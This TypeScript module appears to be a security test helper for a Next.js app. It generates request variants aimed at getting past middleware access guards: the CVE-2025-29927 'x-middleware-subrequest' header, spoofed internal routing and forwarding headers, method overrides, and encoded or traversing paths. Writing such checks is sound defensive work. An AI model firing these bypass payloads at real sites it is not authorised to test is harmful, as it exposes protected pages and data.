import { readFileSync } from "node:fs";
import { type Answer, type Sent, send } from "./sending.ts";

/** Names that the middleware has had in Next: said five times in this header, old versions left it out (CVE-2025-29927). */
const MIDDLEWARES = ["middleware", "src/middleware", "proxy", "src/proxy"];
const SEGMENTS = ["/_tree", "/_full", "/$d$year/$d$unit/__PAGE__"];
const RSC = { rsc: "1" };
const WHOLE_PAGE = encodeURIComponent('["",{"children":["__PAGE__",{}]},null,"refetch"]');

/** A page's or file's request, asked in all the ways that have led past a guard somewhere, or might. */
export function waysAround({ path: asked, headers = {} }: Sent): Sent[] {
  const [path = "", query] = asked.split("?");
  const build = readFileSync(".next/BUILD_ID", "utf8");
  const get = (other: string, more: Record<string, string> = {}): Sent => ({
    method: "GET",
    path: other,
    headers: { ...headers, ...more },
  });
  return [
    ...headersAround(asked).map((more) => get(asked, more)),
    ...["x-matched-path", "x-invoke-path", "x-original-url", "x-rewrite-url"].map((name) => get("/rapport.css", { [name]: asked })),
    ...pathsAround(path).map((other) => get(query ? `${other}?${query}` : other)),
    get(`${asked}${query ? "&" : "?"}_rsc=abc12`),
    get(`/_next/data/${build}${path}.json`),
    get(`/_next/image?url=${encodeURIComponent(path)}&w=640&q=75`),
    ...["HEAD", "OPTIONS", "POST"].map((method) => ({ method, path: asked, headers })),
    { method: "POST", path: asked, headers: { ...headers, "x-http-method-override": "GET", "x-method-override": "GET" } },
  ];
}

function headersAround(asked: string): Record<string, string>[] {
  return [
    ...MIDDLEWARES.map((name) => ({ "x-middleware-subrequest": Array(5).fill(name).join(":") })),
    { "x-middleware-subrequest": "pages/_middleware" },
    RSC,
    { ...RSC, "next-router-state-tree": WHOLE_PAGE },
    { ...RSC, "next-router-prefetch": "1" },
    ...SEGMENTS.map((segment) => ({ ...RSC, "next-router-prefetch": "1", "next-router-segment-prefetch": segment })),
    { "x-nextjs-data": "1", "x-middleware-prefetch": "1", purpose: "prefetch" },
    { "next-resume": "1" },
    { "x-matched-path": "/logga-in", "x-invoke-path": "/logga-in", "x-tertial-path": "/logga-in" },
    { "x-forwarded-host": "127.0.0.1", "x-forwarded-for": "127.0.0.1", "x-real-ip": "127.0.0.1", "x-original-url": asked },
  ];
}

function pathsAround(path: string): string[] {
  const before = path.slice(0, path.lastIndexOf("/"));
  const last = path.slice(before.length + 1);
  return [
    ...[".rsc", ".prefetch.rsc", ".json", "/", ";.css", "%00", "%2f"].map((end) => `${path}${end}`),
    ...SEGMENTS.map((segment) => `${path}.segments${segment}.segment.rsc`),
    ...["//", "%2f", "%252f", "%5c", "\\", "/./", "/x/../", "/x/%2e%2e/"].map((slash) => `${before}${slash}${last}`),
    ...[`/${path}`, `/logga-in/%2e%2e${path}`, `/rapport.css/..${path}`, path.toUpperCase()],
    path.replaceAll(/[a-z]/g, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
  ];
}

/** As the browser's part of Next does it: who asks for a page's data without the right mark is sent on with it. */
export async function sendOn(address: string, sent: Sent): Promise<Answer> {
  const answer = await send(address, sent);
  const on = answer.headers.location;
  return on?.includes("_rsc=") ? send(address, { ...sent, path: on.replace(/^https?:\/\/[^/]+/, "") }) : answer;
}
